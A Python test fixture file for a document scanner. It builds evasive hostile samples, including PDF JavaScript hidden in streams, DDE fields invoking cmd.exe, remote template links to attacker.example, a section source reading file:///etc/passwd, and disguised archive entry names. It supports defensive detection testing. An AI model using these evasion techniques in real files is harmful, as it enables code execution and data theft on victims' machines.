"""Hostile documents that hide what they do from a search in their bytes, or from one rule alone."""

import io
import struct
import zipfile
import zlib
from typing import Any

from tests.ingest.files.samples import (
    DOCUMENT,
    OFFICE,
    RELATIONSHIP,
    RELATIONSHIPS,
    TYPES,
    WORD,
    compound,
    doc,
    docx,
    link,
    object_stream,
    odt,
    pdf,
    xls,
    xlsx,
    zipped,
)


def two_names() -> bytes:
    """Return an archive whose entry has another name in its extra field."""
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as archive:
        entry = zipfile.ZipInfo("a.txt")
        name = b"a.exe"
        field = struct.pack("<BI", 1, zlib.crc32(b"a.txt")) + name
        entry.extra = struct.pack("<HH", 0x7075, len(field)) + field
        archive.writestr(entry, "x")
    return output.getvalue()


def embedded(stream: str) -> bytes:
    """Return a compound file as documents embed one, with a stream."""
    return compound({stream: b"MZ"})


def open_content(element: str) -> dict[str, bytes | str]:
    """Return the text of an OpenDocument file with an element."""
    names = ["office", "draw", "xlink", "text", "script", "form"]
    spaces = " ".join(f'xmlns:{one}="urn:{one}"' for one in names)
    return {"content.xml": f"<office:document-content {spaces}>{element}</office:document-content>"}


JAVASCRIPT = b"<</S/JavaScript/JS(app.alert(1))>>"
HIDING: dict[str, tuple[Any, str]] = {
    "a PDF with a comment that looks like a stream": (
        pdf(b"<<>>\n% stream\n", JAVASCRIPT, b"<<>>\n% endstream\n"),
        "scripts",
    ),
    "a PDF with texts that look like a stream": (
        pdf(b"<</A(stream\n)/S/JavaScript/JS(x)/B(endstream)>>"),
        "scripts",
    ),
    "a PDF with a script in the bytes of a stream": (
        pdf(b"<</Length 40>>stream\n9 0 obj" + JAVASCRIPT + b"endobj\nendstream "),
        "scripts",
    ),
    "a PDF with an action of media": (pdf(b"<</S/Rendition/JS(x)>>"), "scripts"),
    "a PDF with packed objects and a long dictionary": (
        pdf(object_stream(JAVASCRIPT, b"/Filter/FlateDecode" + b" " * 5_000)),
        "scripts",
    ),
    "a PDF with packed objects without a type": (
        pdf(object_stream(JAVASCRIPT, b"/N 1/First 4/Filter/FlateDecode", b"X")),
        "scripts",
    ),
    "a PDF with objects that are packed twice": (
        pdf(object_stream(zlib.compress(JAVASCRIPT), b"/Filter[/FlateDecode/FlateDecode]")),
        "scripts",
    ),
    "a PDF with objects that are packed by differences": (
        pdf(object_stream(b"x", b"/Filter/FlateDecode/DecodeParms<</Predictor 12>>")),
        "scripts",
    ),
    "a PDF with packed objects after another end of line": (
        pdf(object_stream(JAVASCRIPT).replace(b">>stream\n", b">>stream \r")),
        "scripts",
    ),
    "a PDF with packed objects that seem to end": (
        pdf(b"<</Type/ObjStm/Filter/FlateDecode>>stream\n" + zlib.compress(b"endstream", 0)[:-4] + b"\nendstream "),
        "damaged",
    ),
    "a Word document with relationships in UTF-16": (
        docx(
            {
                "word/_rels/settings.xml.rels": RELATIONSHIPS.format(
                    link("attachedTemplate", "https://attacker.example/a.dotm")
                ).encode("utf-16")
            }
        ),
        "external-content",
    ),
    "a Word document with a character reference in a relationship": (
        docx(links=link("attachedTemplate", "https://attacker.example/", ' TargetMode="&#69;xternal"')),
        "external-content",
    ),
    "a Word document with a bracket in a relationship": (
        docx(links=f'<Relationship Target="https://a/?>" Id="r9" TargetMode="External" Type="{RELATIONSHIP}frame"/>'),
        "external-content",
    ),
    "a Word document with a DDE field of another prefix": (
        docx(body=f'<x:instrText xmlns:x="{WORD}">DDE c</x:instrText>'),
        "macros",
    ),
    "a Word document with a DDE field in character references": (
        docx(body="<w:instrText>D&#68;EAUTO c:\\\\cmd.exe</w:instrText>"),
        "macros",
    ),
    "a Word document with a DDE field that a field writes": (
        docx(body="<w:instrText>QUOTE 68 68 69 65 85 84 79</w:instrText><w:instrText> c:\\\\cmd.exe</w:instrText>"),
        "macros",
    ),
    "a Word document with a DDE field in a part of another name": (
        docx({"word/glossary.bin": DOCUMENT.format("<w:instrText>DDE c</w:instrText>")}),
        "macros",
    ),
    "a Word document with a field that shows a part of a page": (
        docx(body='<w:instrText>INCLUDETEXT  "https://attacker.example/a.docx" \\\\a</w:instrText>'),
        "external-content",
    ),
    "a Word document with a simple field of a file on a server": (
        docx(body=r"""<w:fldSimple w:instr="IncludeText \\\\attacker\\share\\a.docx"/>"""),
        "external-content",
    ),
    "a Word document with a link to a workbook on a server": (
        docx(body='<w:instrText>LINK Excel.Sheet.12 </w:instrText><w:instrText>"//attacker/a.xlsx" A1</w:instrText>'),
        "external-content",
    ),
    "a Word document with such a field that a field writes": (
        docx(body="<w:instrText>QUOTE 82 68</w:instrText><w:instrText> file://attacker/a</w:instrText>"),
        "external-content",
    ),
    "a Word document that is also an OpenDocument text with macros": (
        docx({"META-INF/manifest.xml": "<manifest/>", "content.xml": "<x/>", "Basic/Standard/Module1.xml": "<x/>"}),
        "polyglot",
    ),
    "an OpenDocument text that is also a workbook": (
        odt({"[Content_Types].xml": TYPES.format(part="xl/a.xml", kind=f"{OFFICE}spreadsheetml.sheet.main+xml")}),
        "polyglot",
    ),
    "a Word document with a project of macros of another name": (
        docx(links=f'<Relationship Id="r9" Type="{RELATIONSHIP}vbaProject" Target="data.bin"/>'),
        "macros",
    ),
    "a Word document with a packed program": (
        docx({"word/embeddings/oleObject1.bin": embedded("\x01Ole10Native")}),
        "embedded-files",
    ),
    "a Word document with a workbook with macros": (docx({"word/embeddings/b.xlsm": b"x"}), "macros"),
    "a workbook with a DDE link": (
        xlsx({"xl/externalLinks/a.xml": '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c"/></externalLink>'}),
        "macros",
    ),
    "a workbook with an object elsewhere": (
        xlsx({"xl/externalLinks/externalLink1.xml": "<externalLink><oleLink/></externalLink>"}),
        "external-content",
    ),
    "a workbook with a sheet of macros of another name": (
        xlsx(
            {
                "[Content_Types].xml": TYPES.format(
                    part="xl/workbook.xml", kind=f"{OFFICE}spreadsheetml.sheet.main+xml"
                )
                + '<!-- <Override PartName="/xl/a.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/> -->'
            }
        ),
        "macros",
    ),
    "a .doc with a DDE field": (doc(text=b"\x13 DDEAUTO c:\\\\cmd.exe\x14"), "macros"),
    "a .doc with a DDE field in two bytes": (doc(text="\x13DDE c:\\\\cmd.exe\x14".encode("utf-16-le")), "macros"),
    "a .xls with a DDE link": (xls((0x1AE, b"\0\0\x09\0\0cmd\x03/c cal")), "macros"),
    "an OpenDocument text with a script of an event": (
        odt(open_content('<script:event-listener xlink:href="vnd.sun.star.script:a.py$b"/>')),
        "macros",
    ),
    "an OpenDocument text with a link to a script": (
        odt(open_content('<text:a xlink:href="vnd.sun.star.script:LibreLogo">x</text:a>')),
        "macros",
    ),
    "an OpenDocument text with a DDE link": (odt(open_content("<text:dde-connection-decl/>")), "macros"),
    "an OpenDocument text with an object elsewhere": (
        odt(open_content('<draw:object xlink:href="https://attacker.example/a"/>')),
        "external-content",
    ),
    "an OpenDocument text with a section of a file": (
        odt(open_content('<text:section-source xlink:href="file:///etc/passwd"/>')),
        "external-content",
    ),
    "an OpenDocument text with entities": (
        odt({"content.xml": "<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"}),
        "damaged",
    ),
    "a ZIP with a script and a point after its name": (zipped({"doc.js.": b"x"}), "programs"),
    "a ZIP with a script in a stream of a file": (zipped({"doc.txt:a.js": b"x"}), "entry-name"),
    "a ZIP with a template with macros": (zipped({"a.bin": doc({"Macros/VBA": b"x"})}), "macros"),
    "a ZIP with an add-in": (zipped({"a.xla": b"x"}), "programs"),
    "a ZIP with a renamed RAR": (zipped({"anh.jpg": b"Rar!\x1a\x07" + bytes(50)}), "programs"),
    "a ZIP with an isolated name": (zipped({"anh\u2067gpj.txt": b"x"}), "entry-name"),
    "a ZIP with an entry of two names": (two_names, "entry-name"),
}
"""What hides from a search in the bytes, or from one rule alone."""
